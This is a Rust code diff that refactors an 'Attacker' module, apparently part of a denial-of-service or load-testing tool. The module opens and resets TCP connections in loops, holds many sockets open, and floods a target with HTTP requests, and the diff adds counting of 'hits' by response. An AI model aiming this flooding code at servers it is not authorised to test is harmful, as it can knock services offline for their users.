@@ -2,13 +2,12 @@
 
 use std::io::{self, ErrorKind, Write};
 use std::net::TcpStream;
-use std::sync::atomic::Ordering;
 use std::time::Duration;
 
 use socket2::SockRef;
 
 use super::payload::plain_requests;
-use super::{Attacker, PATIENCE, PAUSE, discard};
+use super::{Attacker, PATIENCE, PAUSE};
 
 impl Attacker {
     /// Opens and closes sockets one after the other. A reset leaves no port in TIME_WAIT.
@@ -16,7 +15,7 @@ impl Attacker {
         while !self.is_over() {
             let stream = TcpStream::connect_timeout(&self.address, PATIENCE)?;
             SockRef::from(&stream).set_linger(Some(Duration::ZERO))?;
-            self.sockets.fetch_add(1, Ordering::Relaxed);
+            self.count_hit();
         }
         Ok(())
     }
@@ -27,23 +26,27 @@ impl Attacker {
         while !self.is_over() {
             while sockets.len() < count && !self.is_over() {
                 sockets.push(self.connected()?);
+                if sockets.len() == count {
+                    self.count_hit();
+                }
             }
-            sockets.retain_mut(|stream| discard(stream).is_ok());
+            sockets.retain_mut(|stream| self.receive(stream, &[]).is_ok());
             std::thread::sleep(PAUSE);
         }
         Ok(())
     }
 
     pub(super) fn requests(&self, count: usize) -> io::Result<()> {
-        self.all_send(count, || self.connected(), &plain_requests())
+        self.all_send(count, || self.connected(), &plain_requests(), b"HTTP/1.1 200")
     }
 
-    /// Opens `count` sockets. Then all send `bytes` and are read until they are closed.
+    /// Opens `count` sockets. Then all send `bytes` and are read until they are closed. An answer with `sign` is a hit.
     pub(super) fn all_send(
         &self,
         count: usize,
         open: impl Fn() -> io::Result<TcpStream>,
         bytes: &[u8],
+        sign: &[u8],
     ) -> io::Result<()> {
         let mut sockets = Vec::new();
         for _ in 0..count {
@@ -55,7 +58,10 @@ impl Attacker {
             }
         }
         while !sockets.is_empty() && !self.is_over() {
-            sockets.retain_mut(|(stream, at)| send_more(stream, bytes, at).is_ok());
+            sockets.retain_mut(|(stream, at)| {
+                let is_open = send_more(stream, bytes, at).is_ok();
+                self.receive(stream, sign).is_ok() && is_open
+            });
             std::thread::sleep(PAUSE);
         }
         Ok(())
@@ -68,12 +74,12 @@ impl Attacker {
     }
 }
 
-/// Writes until the socket is full and discards received bytes.
+/// Writes until the socket is full.
 fn send_more(stream: &mut TcpStream, bytes: &[u8], at: &mut usize) -> io::Result<()> {
     match stream.write(&bytes[*at..]) {
         Ok(len) => *at += len,
         Err(error) if error.kind() == ErrorKind::WouldBlock => {}
         Err(error) => return Err(error),
     }
-    discard(stream)
+    Ok(())
 }
